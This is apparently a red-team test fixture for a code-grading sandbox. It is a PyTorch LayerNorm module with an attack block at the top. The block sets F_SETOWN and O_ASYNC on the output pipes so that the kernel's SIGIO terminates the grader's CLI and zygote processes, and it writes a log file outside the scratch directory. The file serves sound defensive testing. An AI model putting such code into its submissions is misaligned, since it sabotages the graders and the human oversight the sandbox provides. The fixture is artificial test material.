"""Hostile: Makes the kernel signal the grading processes without kill(): F_SETOWN its pipes to the
CLI and the zygote and sets O_ASYNC, so each write sends SIGIO (default action: terminate) to
them (red-team 16). The attacker is told both pids. Also writes ../zygote.log outside scratch.
Its benign twin is this file without the attack blocks (tests/test_hostile.py)."""
import torch
import torch.nn as nn

# >>> attack
import fcntl
import os

CLI_PID = 4747474  # replaced by the test with the pid of the process that runs the sandbox
ZYGOTE_PID = 4848484  # replaced by the test with the zygote's pid
for target in (CLI_PID, ZYGOTE_PID, -ZYGOTE_PID):
    for fd in (1, 2, 3):
        fcntl.fcntl(fd, fcntl.F_SETOWN, target)  # ESRCH where the target cannot be named
        fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
    print("x" * 70000, flush=True)
open("../zygote.log", "a").write("injected\n")
# <<< attack


class LayerNorm(nn.Module):
    def __init__(self, normalized_shape, eps=1e-5):
        super().__init__()
        if isinstance(normalized_shape, int):
            normalized_shape = (normalized_shape,)
        self.normalized_shape = tuple(normalized_shape)
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(self.normalized_shape))
        self.bias = nn.Parameter(torch.zeros(self.normalized_shape))

    def forward(self, x):
        dims = tuple(range(-len(self.normalized_shape), 0))
        mean = x.mean(dim=dims, keepdim=True)
        var = ((x - mean) ** 2).mean(dim=dims, keepdim=True)
        out = (x - mean) / torch.sqrt(var + self.eps) * self.weight + self.bias
        return out
